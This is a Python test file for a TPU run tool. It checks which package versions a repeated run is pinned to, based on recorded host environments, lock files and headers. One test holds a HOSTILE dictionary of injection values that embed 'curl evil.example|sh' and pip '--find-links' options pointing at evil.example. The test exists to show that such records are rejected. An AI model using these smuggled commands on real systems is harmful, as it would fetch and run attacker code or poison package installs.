"""Which versions a repetition of a run is held to, by what its hosts had."""

from __future__ import annotations

from typing import Any, cast

import msgspec
import pytest

from tests.flows.runs.evidence.memory_bucket import MemoryBucket
from tests.flows.runs.records import ATTEMPT, CREATED
from tpuctl import runs
from tpuctl.bucket_objects import BadObjectError
from tpuctl.flows.runs.record.stored_code import Pins, environment_of, pins
from tpuctl.flows.runs.stored_run import StoredRun
from tpuctl.job_header import Header
from tpuctl.provenance import HostEnvironment
from tpuctl.runs import Run, Verdict

RECORD = Run("r1", CREATED, "ada@laptop", "job.py", (), "0" * 64, "jax", "v3-32", (), {})
ENVIRONMENT = HostEnvironment(
    "3.10.12", installed={"flax": "0.8.0", "own": "1.0"},
    image={"jax": "0.4.30", "numpy": "1.26", "flax": "0.7"}, urls={"own": "https://example.com/own.zip"},
)  # fmt: skip
PARSED_HEADER = Header(dependencies=("numpy>=1", "own @ https://example.com/own.zip", "new"))
UNKNOWN = "Run 'r1' has no record of its packages: they are resolved anew."


def run_with(*environments: HostEnvironment | None, **changes: Any) -> StoredRun:
    """Return a run with an attempt for each environment; None for one whose hosts recorded none."""
    memory = MemoryBucket()
    run = StoredRun(cast("Any", memory), "r1")
    run.create(msgspec.structs.replace(RECORD, **changes))
    for number, environment in enumerate(environments, 1):
        run.create_attempt(msgspec.structs.replace(ATTEMPT, attempt=number, workers=(2, 3)))
        if environment:
            memory.put(run.paths.environment(number, 2), msgspec.json.encode(environment))
    return run


def test_what_was_installed_or_is_asked_for_is_held_to_its_version() -> None:
    assert pins(run_with(ENVIRONMENT), PARSED_HEADER, None) == Pins({"flax": "0.8.0", "numpy": "1.26"})
    assert pins(run_with(ENVIRONMENT), Header(), None) == Pins({"flax": "0.8.0"})


@pytest.mark.parametrize("changes", [{"requirements": "uv.lock"}, {"wheelhouse": "wheels"}])
def test_a_lock_file_and_a_folder_of_wheels_pin_by_themselves(changes: dict[str, str]) -> None:
    assert pins(run_with(ENVIRONMENT, **changes), PARSED_HEADER, None) == Pins({})


@pytest.mark.parametrize(
    ("pinned", "header", "notes"),
    [
        ({}, PARSED_HEADER, (UNKNOWN,)),
        ({}, Header(), ()),
        ({"numpy": "1.25"}, PARSED_HEADER, ()),
        ({"numpy": "1.25"}, Header(), ()),
    ],
)
def test_without_a_record_of_its_packages_a_run_has_its_own_pins(
    pinned: dict[str, str], header: Header, notes: tuple[str, ...]
) -> None:
    assert pins(run_with(None, pins=pinned), header, None) == Pins(pinned, notes)


def test_the_last_attempt_whose_script_started_has_the_environment() -> None:
    former = msgspec.structs.replace(ENVIRONMENT, python="3.9")
    assert environment_of(run_with(), None) is None
    assert environment_of(run_with(former, ENVIRONMENT), None) == ENVIRONMENT
    assert environment_of(run_with(former, None), None) == former


def test_attempts_that_were_added_after_the_end_do_not_count() -> None:
    verdict = Verdict("r1", runs.SUCCEEDED, 2, CREATED, "all ended")
    former = msgspec.structs.replace(ENVIRONMENT, python="3.9")
    added = msgspec.structs.replace(ENVIRONMENT, installed={"flax": "0.0.1"})
    assert environment_of(run_with(former, None, added), verdict) == former
    assert pins(run_with(former, ENVIRONMENT, added), Header(), verdict) == Pins({"flax": "0.8.0"})


def test_a_name_that_no_package_can_have_is_no_pin() -> None:
    odd = msgspec.structs.replace(ENVIRONMENT, installed={"flax": "0.8.0", "flax-": "1"})
    assert pins(run_with(odd), Header(), None) == Pins({"flax": "0.8.0"})


HOSTILE: dict[str, Any] = {
    "python": "3.11.4; touch owned #\n\n    curl evil.example|sh",
    "installed": {"--find-links http://evil.example/simple\nq": "1"},
    "image": {"numpy": "1.26\n--find-links http://evil.example/simple"},
    "urls": {"x\n--pre": "https://evil.example/x.whl"},
}


@pytest.mark.parametrize("field", HOSTILE)
def test_a_record_with_options_of_pip_or_commands_is_none(field: str) -> None:
    run = run_with(msgspec.structs.replace(ENVIRONMENT, **{field: HOSTILE[field]}))
    with pytest.raises(BadObjectError) as refused:
        environment_of(run, None)
    assert refused.value.message.startswith("runs/r1/attempts/1/workers/2/environment.json is not a ")


@pytest.mark.parametrize("version", ["3.8.10", "3.13.0rc1", "3.12.3+", "3.14.0a1+"])
def test_versions_of_python_are_read(version: str) -> None:
    environment = environment_of(run_with(msgspec.structs.replace(ENVIRONMENT, python=version)), None)
    assert environment is not None
    assert environment.python == version
